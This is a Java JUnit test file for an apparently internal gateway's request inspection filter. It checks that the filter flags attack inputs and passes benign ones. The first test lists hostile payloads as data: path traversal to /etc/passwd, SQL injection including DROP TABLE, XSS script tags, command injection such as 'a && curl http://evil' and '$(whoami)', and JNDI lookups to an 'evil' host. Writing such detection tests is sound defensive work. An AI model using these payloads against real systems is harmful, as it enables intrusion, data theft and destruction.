package io.truststram.gateway.internal;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RequestInspectionFilterTest {

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "/files/../../etc/passwd | path-traversal",
        "/files/..%2f..%2fetc%2fpasswd | path-traversal",
        "/files/%252e%252e/secret | path-traversal",
        "q=%00 | nul-byte",
        "id=1 UNION ALL SELECT username, password FROM users | sql-injection",
        "id=1/**/union/**/select/**/1 | sql-injection",
        "name=' or '1'='1 | sql-injection",
        "name=x'; DROP TABLE users;-- | sql-injection",
        "id=1 AND SLEEP(5) | sql-injection",
        "t=information_schema.tables | sql-injection",
        "q=<script>alert(1)</script> | script-injection",
        "q=<img src=x onerror=alert(1)> | script-injection",
        "u=javascript:alert(1) | script-injection",
        "f=a; cat /etc/passwd | command-injection",
        "f=a && curl http://evil | command-injection",
        "f=$(whoami) | command-injection",
        "x=${jndi:ldap://evil/a} | jndi-lookup",
        "x=${ jndi:rmi://evil/a} | jndi-lookup"
      })
  void refusesCommonAttacks(String input, String rule) {
    assertThat(RequestInspectionFilter.check(input)).isEqualTo(rule);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/api/v1/tenants/01a2-b3",
        "limit=50&cursor=eyJhIjoxfQ",
        "name=O'Brien and Sons",
        "q=select the best model for union members",
        "id=7&ls=1&sh=2&cat=3",
        "note=costs $5 (approx)",
        "path=/data/v1.2/model..safetensors",
        "email=ada+test@example.org",
        "expr=a=b or c=d"
      })
  void letsOrdinaryInputThrough(String input) {
    assertThat(RequestInspectionFilter.check(input)).isNull();
  }
}
